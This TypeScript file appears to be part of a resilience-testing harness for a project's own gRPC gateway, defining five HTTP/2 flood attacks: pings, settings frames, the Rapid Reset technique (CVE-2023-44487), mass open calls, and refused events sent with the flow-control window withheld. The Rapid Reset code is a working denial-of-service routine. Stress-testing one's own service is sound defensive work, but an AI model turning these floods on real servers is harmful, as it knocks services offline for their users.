/** gRPC, and HTTP/2 below it: pings, settings, calls that are reset at once, calls without end, and refused events. */
import { create, toBinary } from "@bufbuild/protobuf"
import { EventRequestSchema } from "@nimbus/gateway/proto"
import { connectGrpc } from "../../grpc/GrpcLoad.ts"
import { headers, headersOf, hpack, http2, ping, preface, prefixed, reset } from "../../fuzz/GrpcTalk.ts"
import type { Attack, Field } from "../Field.ts"
import { type Chunk, chunkOf, flood } from "../Flood.ts"

const settings = 4
const endHeaders = 4

const opening = Buffer.concat([preface, http2(settings, 0, 0, Buffer.alloc(0))])

const floodOf = (chunk: Chunk, connections: number): Attack["begin"] =>
  flood({ port: "grpc", connections, reads: false, opening: () => [{ says: opening }], chunk })

const callOf = (stream: number, client: string): Buffer => http2(headers, endHeaders, stream, hpack(headersOf(client)))

/** A call, and at once its end (CVE-2023-44487). Streams are numbered as they are written. */
const resets_per_write = 100

const rapidReset = (field: Field): void => {
  const pair = Buffer.concat([callOf(1, "attacker-reset"), http2(reset, 0, 1, Buffer.from("00000008", "hex"))])
  const second = pair.length - 13
  const bytes = Buffer.concat(Array.from({ length: resets_per_write }, () => pair))
  field.connect(
    "grpc",
    { reads: true },
    (socket) => {
      let stream = 1
      const go = (): void => {
        for (let at = 0; at < bytes.length; at += pair.length, stream += 2) {
          bytes.writeUInt32BE(stream, at + 5)
          bytes.writeUInt32BE(stream, at + second + 5)
        }
        // The bytes are those of all connections: each needs its own until they are taken.
        socket.write(Buffer.from(bytes), (error) => {
          if (error != null || field.isOver) return
          field.sent += resets_per_write
          go()
        })
      }
      socket.write(opening)
      go()
    },
    () => rapidReset(field),
  )
}

/** As many calls as a connection may have, each of a client of its own, left open for a while, then all over again. */
const calls_each = 1_000
const calls_stay_ms = 2_000

const manyCalls = (field: Field): void => {
  const calls = Array.from({ length: calls_each }, (_, i) => callOf(2 * i + 1, field.name("call")))
  field.connect(
    "grpc",
    { reads: true },
    (socket) => {
      socket.write(opening)
      socket.write(Buffer.concat(calls), (error) => void (error == null && !field.isOver && (field.sent += calls_each)))
      field.later(calls_stay_ms, () => field.leave(socket))
    },
    () => manyCalls(field),
  )
}

const refusedEvents = (): ReadonlyArray<Buffer> => {
  const events = [
    { eventName: "", eventId: "e1" },
    { eventName: "n".repeat(129), eventId: "e2" },
    { eventName: "sq", eventId: "i".repeat(129) },
    { eventName: "sq", eventId: "e3", dataJson: "{" },
  ]
  return events.map((event) => prefixed(Buffer.from(toBinary(EventRequestSchema, create(EventRequestSchema, event)))))
}

/** Its window is never given back, so the server's answers wait; its own flow control is Node's. */
const refuse = async (field: Field, n: number): Promise<void> => {
  const { bytes, count } = chunkOf(refusedEvents(), 16 * 1024)
  try {
    const client = await connectGrpc({ port: field.ports.grpc, clientId: `attacker-refused-${n}`, underWay: 0 })
    field.connections++
    client.stream.pause()
    const isEnded = new Promise<void>((resolve) => client.session.once("close", resolve))
    const go = (): void => {
      if (field.isOver) return client.close()
      client.stream.write(bytes, (error) => {
        if (error != null || field.isOver) return client.close()
        field.sent += count
        go()
      })
    }
    go()
    field.whenOver(() => client.close())
    client.stream.once("close", () => client.close())
    await isEnded
  } catch {
    // It was not let in.
  }
  if (field.isOver) return
  field.ended++
  field.later(50, () => void refuse(field, n))
}

export const grpc: ReadonlyArray<Attack> = [
  {
    name: "grpc-pings",
    what: "4 HTTP/2 connections ping and do not read",
    begin: floodOf(chunkOf([http2(ping, 0, 0, Buffer.alloc(8))]), 4),
  },
  {
    name: "grpc-settings",
    what: "4 HTTP/2 connections send settings and do not read",
    begin: floodOf(chunkOf([http2(settings, 0, 0, Buffer.from("000400010000", "hex"))]), 4),
  },
  {
    name: "grpc-resets",
    what: "4 HTTP/2 connections open calls and reset them at once (CVE-2023-44487)",
    begin: (field) => {
      for (let n = 0; n < 4; n++) rapidReset(field)
    },
  },
  {
    name: "grpc-calls",
    what: "4 HTTP/2 connections open 1,000 calls of new clients each, and come back every 2 s",
    begin: (field) => {
      for (let n = 0; n < 4; n++) manyCalls(field)
    },
  },
  {
    name: "grpc-refused",
    what: "4 gRPC calls send events that are refused and do not read",
    begin: (field) => {
      for (let n = 0; n < 4; n++) void refuse(field, n)
    },
  },
]
